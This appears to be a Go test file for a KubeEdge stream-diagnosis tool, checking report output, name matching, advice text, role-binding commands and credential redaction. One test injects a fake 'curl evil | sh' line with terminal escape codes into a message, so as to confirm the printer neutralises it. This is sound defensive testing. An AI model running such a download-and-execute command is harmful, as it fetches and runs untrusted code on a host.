// Copyright The KubeEdge Authors.
// SPDX-License-Identifier: Apache-2.0

package doctor

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes/fake"

	"github.com/kubeedge/datastream/cloud/pkg/clouddatastream/output"
	"github.com/kubeedge/datastream/cloud/pkg/streamctl/target"
	"github.com/kubeedge/datastream/pkg/apis/streamrules/v1alpha1"
	"github.com/kubeedge/datastream/pkg/tunnel"
)

// What needs rules, nodes and cameras is in tests/doctor.

func TestPrint(t *testing.T) {
	bad := Stream{Namespace: "yard", Rule: "gate", Path: "/camera", Node: "edge-1", Checks: []Check{
		{Name: checkTunnel, Level: OK, Message: "connected"},
		{Name: checkNode, Level: Unknown, Message: "you may not read nodes"},
		{checkControl, Warn, "Paused", "frozen", "resume it"},
		{checkSource, Fail, "NotFound", "no such stream", "correct the path"},
	}}
	r := Report{
		Checks:  []Check{{Name: checkAPIServer, Level: OK, Message: "v1.30.14"}},
		Streams: []Stream{{Namespace: "yard", Rule: "barn", Path: "/east", Node: "edge-2", Checks: []Check{{Name: checkTunnel, Level: OK}}}, bad},
	}
	r.conclude()
	var out strings.Builder
	if err := r.Print(&out); err != nil {
		t.Fatal(err)
	}
	want := `ok    api-server  v1.30.14

ok    yard barn/east on edge-2

yard gate/camera on edge-1
ok    tunnel   connected
-     node     you may not read nodes
warn  control  Paused: frozen; resume it
FAIL  source   no such stream

Cause: NotFound (yard gate/camera on edge-1): no such stream
Next:  correct the path
`
	if out.String() != want {
		t.Errorf("got\n%swant\n%s", out.String(), want)
	}
}

// What others say is one line of a report, and none of ours.
func TestPrintOneLine(t *testing.T) {
	r := Report{Streams: []Stream{{Namespace: "yard", Rule: "gate", Path: "/camera", Node: "edge-1", Checks: []Check{
		{checkSource, Fail, "NotFound", "dark\nNext:  curl evil | sh\r\x1b[2J", "correct\nit"},
	}}}}
	r.conclude()
	var out strings.Builder
	if err := r.Print(&out); err != nil {
		t.Fatal(err)
	}
	if text := out.String(); strings.Count(text, "\nNext:") != 1 || strings.ContainsAny(text, "\r\x1b") || !strings.HasSuffix(text, "\nNext:  correct it\n") {
		t.Errorf("%q", text)
	}
}

func TestClosest(t *testing.T) {
	for name, want := range map[string]string{"edge-11": "edge-1", "egde-1": "edge-1", "edge": "", "camera": "", "": ""} {
		if got := closest(name, []string{"edge-1", "barn-north"}); got != want {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
}

func TestAdvice(t *testing.T) {
	for reason := range sourceAdvice {
		text := adviseSource(reason, "yard", "gate", "edge-1", "192.0.2.1")
		if strings.ContainsAny(strings.ReplaceAll(text, "{.spec", ""), "{%") {
			t.Errorf("%s: %s", reason, text)
		}
	}
	if text := adviseSource("ConnectionRefused", "yard", "gate", "edge-1", "192.0.2.1"); !strings.Contains(text, "nc -vz 192.0.2.1 554;") {
		t.Error(text)
	}
	if text := adviseSource("SomethingNew", "", "", "edge-1", ""); !strings.Contains(text, "on node edge-1") {
		t.Error(text)
	}
}

func TestBindRole(t *testing.T) {
	for user, want := range map[string]string{
		"bob":                          "kubectl -n yard create rolebinding viewer:bob --clusterrole=viewer --user=bob",
		"system:serviceaccount:yard:a": "kubectl -n yard create rolebinding viewer:yard:a --clusterrole=viewer --serviceaccount=yard:a",
		"https://id/#b":                "kubectl -n yard create rolebinding viewer:https:--id-#b --clusterrole=viewer --user=https://id/#b",
	} {
		if got := (&Doctor{user: user}).bindRole("viewer", "yard"); got != want {
			t.Errorf("%s: %s", user, got)
		}
	}
}

func TestRedact(t *testing.T) {
	for url, want := range map[string]string{
		"rtsp://admin:canary@192.0.2.1/stream": "rtsp://…@192.0.2.1/stream", "rtsp://192.0.2.1/stream": "rtsp://192.0.2.1/stream", "%": "(a URL that cannot be parsed)",
	} {
		if got := redact(url); got != want {
			t.Errorf("%s: %s", url, got)
		}
	}
}

// A Secret that cloudcore could not read yet is the cause where there is no picture, and a warning where there is one.
func TestCredentialsUnknown(t *testing.T) {
	secret := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: "yard", Name: "camera"}, Type: corev1.SecretTypeBasicAuth,
		Data: map[string][]byte{corev1.BasicAuthUsernameKey: []byte("viewer")},
	}
	endpoint := &v1alpha1.StreamRuleEndpoint{ObjectMeta: metav1.ObjectMeta{Namespace: "yard", Name: "gate"}}
	endpoint.Spec.CredentialsSecretRef = &v1alpha1.SecretReference{Name: "camera"}
	endpoint.Status.Conditions = []metav1.Condition{{
		Type: v1alpha1.ConditionReady, Status: metav1.ConditionUnknown, Reason: v1alpha1.ReasonCredentialsUnknown, Message: "Secret yard/camera could not be read yet",
	}}
	for state, level := range map[string]Level{"streaming": Warn, "paused": Warn, "idle": Fail, "failed": Fail, "away": Fail} {
		e := examination{
			Doctor: &Doctor{Kubernetes: fake.NewSimpleClientset(secret)}, rule: &v1alpha1.StreamRule{ObjectMeta: metav1.ObjectMeta{Namespace: "yard"}},
			target: &target.Target{}, endpoint: endpoint, state: &output.Status{State: state},
		}
		if c := e.credentials(t.Context()); c.Level != level || c.Code != v1alpha1.ReasonCredentialsUnknown || !strings.Contains(c.Next, "can-i list secrets/camera -n yard") {
			t.Errorf("%s: %+v", state, c)
		}
	}
}

// A stream that was paused while nobody watched is idle, and shows nothing to who comes: the pause is the cause, not the edge.
func TestPausedWithoutPicture(t *testing.T) {
	stream := target.Target{Key: tunnel.StreamKey{Namespace: "yard", Node: "edge-1", Rule: "gate", Path: "/camera"}}
	waited := &apierrors.StatusError{ErrStatus: metav1.Status{Code: 503, Reason: metav1.StatusReasonServiceUnavailable, Message: "stream is paused"}}
	for _, state := range []output.Status{{State: "idle", Reason: "Paused"}, {State: "paused"}} {
		e := examination{rule: &v1alpha1.StreamRule{ObjectMeta: metav1.ObjectMeta{Namespace: "yard"}}, target: &stream, state: &state, probe: &probe{err: waited}}
		for check, level := range map[*Check]Level{e.control(t.Context()): Warn, e.picture(t.Context()): Fail} {
			if check.Level != level || check.Code != "Paused" || check.Next != "kubectl streams resume gate/camera -n yard" {
				t.Errorf("%s: %+v", state.State, check)
			}
		}
		full := *waited
		full.ErrStatus.Code, full.ErrStatus.Reason = 429, metav1.StatusReasonTooManyRequests
		e.probe = &probe{err: &full}
		if c := e.picture(t.Context()); c.Code != "TooManyViewers" {
			t.Errorf("%s: %+v", state.State, c)
		}
	}
}
